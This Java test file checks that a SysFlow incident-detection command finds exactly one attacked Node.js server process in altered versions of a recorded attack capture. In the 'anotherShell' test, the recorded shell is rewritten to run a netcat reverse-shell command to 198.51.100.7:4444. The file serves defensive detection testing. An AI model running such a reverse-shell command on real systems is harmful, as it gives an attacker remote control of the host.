package io.sysflow.streams.command;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.sysflow.codec.Dialect;
import io.sysflow.codec.SysFlowFileReader;
import io.sysflow.codec.SysFlowFileWriter;
import io.sysflow.model.Header;
import io.sysflow.model.NetworkFlow;
import io.sysflow.model.Oid;
import io.sysflow.model.OpFlag;
import io.sysflow.model.ProcessEntity;
import io.sysflow.model.SysFlow;
import io.sysflow.model.SysFlowRecord;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The recorded attack on a Node.js application, as it would be if the server had been started in
 * another way, were attacked by other means, or seen otherwise: npm(1949), sh(2024), node(2025).
 */
class AttackVariantsTest {

  private static final Path CORPUS =
      Path.of(System.getProperty("sysflow.corpus", "../shared/corpus"));
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int MANAGER = 1949;
  private static final int SHELL = 2024;
  private static final int SERVER = 2025;

  @TempDir private Path directory;

  /** What becomes of the records of a capture. */
  private interface Change extends Function<SysFlowRecord, Optional<SysFlowRecord>> {}

  @ParameterizedTest
  @ValueSource(strings = {"ours", "processor/policies/ttps.yaml"})
  void connectionsThatWereThereBeforeTheAgent(String rules) throws IOException {
    Path capture = changed(AttackVariantsTest::withoutAccepts);

    assertOneIncidentOf(SERVER, rules, capture);
  }

  @ParameterizedTest
  @ValueSource(strings = {"ours", "processor/policies/ttps.yaml"})
  void aServerThatAProcessManagerStarts(String rules) throws IOException {
    Path capture =
        changed(
            rec ->
                withoutAccepts(rec)
                    .map(
                        one ->
                            process(
                                one, MANAGER, "/usr/bin/node", "PM2 v5.3.0: God Daemon (/root)"))
                    .map(one -> child(one, SERVER, MANAGER)));

    assertOneIncidentOf(SERVER, rules, capture);
  }

  @ParameterizedTest
  @ValueSource(strings = {"ours", "processor/policies/ttps.yaml"})
  void aServerThatIsTheFirstOfItsContainer(String rules) throws IOException {
    Path capture =
        changed(
            rec ->
                withoutAccepts(rec)
                    .filter(one -> !isProcess(one, MANAGER) && !isProcess(one, SHELL)));

    assertOneIncidentOf(SERVER, rules, capture);
  }

  @ParameterizedTest
  @ValueSource(strings = {"ours", "processor/policies/ttps.yaml"})
  void anotherShell(String rules) throws IOException {
    Path capture =
        changed(
            rec ->
                Optional.of(
                    rec instanceof ProcessEntity shell && shell.exe().equals("/bin/sh")
                        ? with(shell, "/bin/bash", "-c nc -e /bin/sh 198.51.100.7 4444")
                        : rec));

    assertOneIncidentOf(SERVER, rules, capture);
  }

  @Test
  void aServerOnAHostThatRunsMore() throws IOException {
    Path capture =
        changed(rec -> Optional.of(rec instanceof ProcessEntity one ? onHost(one) : rec));

    List<JsonNode> incidents =
        incidents(corpus("processor/policies/ttps.yaml"), capture, corpus("sf/tcp.sf"));

    assertThat(incidents).hasSizeLessThanOrEqualTo(3);
    assertThat(incidents).filteredOn(one -> one.at("/process/pid").asInt() == SERVER).hasSize(1);
  }

  @Test
  void manyFilesAndOtherNodes() throws IOException {
    List<Path> paths = new ArrayList<>(List.of(corpus("sf/tcp.sf"), corpus("sf/httpd.sf")));
    paths.addAll(parts());
    paths.add(corpus("sf/k8s_small.sf"));

    List<JsonNode> incidents = incidents(null, paths.toArray(Path[]::new));

    assertThat(incidents).hasSize(1);
    assertThat(incidents.get(0).at("/process/pid").asInt()).isEqualTo(SERVER);
  }

  private void assertOneIncidentOf(int pid, String rules, Path capture) throws IOException {
    List<JsonNode> incidents = incidents(rules.equals("ours") ? null : corpus(rules), capture);

    assertThat(incidents).hasSize(1);
    assertThat(incidents.get(0).at("/process/pid").asInt()).isEqualTo(pid);
  }

  private static List<JsonNode> incidents(@Nullable Path rules, Path... captures)
      throws IOException {
    List<String> arguments = new ArrayList<>(List.of("--format=json"));
    if (rules != null) {
      arguments.add("--policies=" + rules);
    }
    for (Path capture : captures) {
      arguments.add(capture.toString());
    }
    CommandRun run = CommandRun.of(new IncidentListCommand(), arguments.toArray(String[]::new));
    List<JsonNode> incidents = new ArrayList<>();
    for (String line : run.out().lines().toList()) {
      incidents.add(JSON.readTree(line));
    }
    return incidents;
  }

  private static Optional<SysFlowRecord> withoutAccepts(SysFlowRecord rec) {
    return rec instanceof NetworkFlow flow && flow.opFlags().has(OpFlag.ACCEPT)
        ? Optional.empty()
        : Optional.of(rec);
  }

  private static boolean isProcess(SysFlowRecord rec, int pid) {
    return rec instanceof ProcessEntity process && process.oid().hpid() == pid;
  }

  private static SysFlowRecord process(SysFlowRecord rec, int pid, String exe, String args) {
    return isProcess(rec, pid) ? with((ProcessEntity) rec, exe, args) : rec;
  }

  private static ProcessEntity with(ProcessEntity process, String exe, String args) {
    return copy(process, process.poid(), exe, args, process.containerId());
  }

  private static SysFlowRecord child(SysFlowRecord rec, int pid, int parent) {
    return isProcess(rec, pid) && rec instanceof ProcessEntity process && process.poid() != null
        ? copy(process, new Oid(0, parent), process.exe(), process.exeArgs(), process.containerId())
        : rec;
  }

  private static ProcessEntity onHost(ProcessEntity process) {
    return copy(process, process.poid(), process.exe(), process.exeArgs(), null);
  }

  private static ProcessEntity copy(
      ProcessEntity process,
      @Nullable Oid parent,
      String exe,
      String args,
      @Nullable String container) {
    return process.toBuilder().poid(parent).exe(exe).exeArgs(args).containerId(container).build();
  }

  private Path changed(Change change) throws IOException {
    Path file = directory.resolve("changed.sf");
    try (SysFlowFileReader from = new SysFlowFileReader(corpus("sf/express-attack-v1.sf"));
        SysFlowFileWriter to = new SysFlowFileWriter(file, Dialect.V5)) {
      while (from.hasNext()) {
        Optional<SysFlowRecord> rec = change.apply(from.next().rec());
        if (rec.isPresent()) {
          to.write(SysFlow.bare(rec.get()));
        }
      }
    }
    return file;
  }

  /** Files of the capture, as an agent that begins a new file now and then writes them. */
  private List<Path> parts() throws IOException {
    List<SysFlowRecord> entities = new ArrayList<>();
    List<SysFlowRecord> activities = new ArrayList<>();
    try (SysFlowFileReader from = new SysFlowFileReader(corpus("sf/express-attack-v1.sf"))) {
      while (from.hasNext()) {
        SysFlowRecord rec = from.next().rec();
        boolean entity = rec instanceof io.sysflow.model.Entity || rec instanceof Header;
        (entity ? entities : activities).add(rec);
      }
    }
    List<Path> files = new ArrayList<>();
    int size = activities.size() / 3 + 1;
    for (int i = 0; i < 3; i++) {
      Path file = directory.resolve("part" + i + ".sf");
      try (SysFlowFileWriter to = new SysFlowFileWriter(file, Dialect.V5)) {
        for (SysFlowRecord rec : entities) {
          to.write(SysFlow.bare(rec));
        }
        int end = Math.min(activities.size(), (i + 1) * size);
        for (SysFlowRecord rec : activities.subList(i * size, end)) {
          to.write(SysFlow.bare(rec));
        }
      }
      files.add(file);
    }
    return files;
  }

  private static Path corpus(String name) {
    Path path = CORPUS.resolve(name);
    if (!Files.exists(path)) {
      System.err.println("SKIPPED: there is no " + path);
    }
    assumeTrue(Files.exists(path), () -> "there is no " + path);
    return path;
  }
}
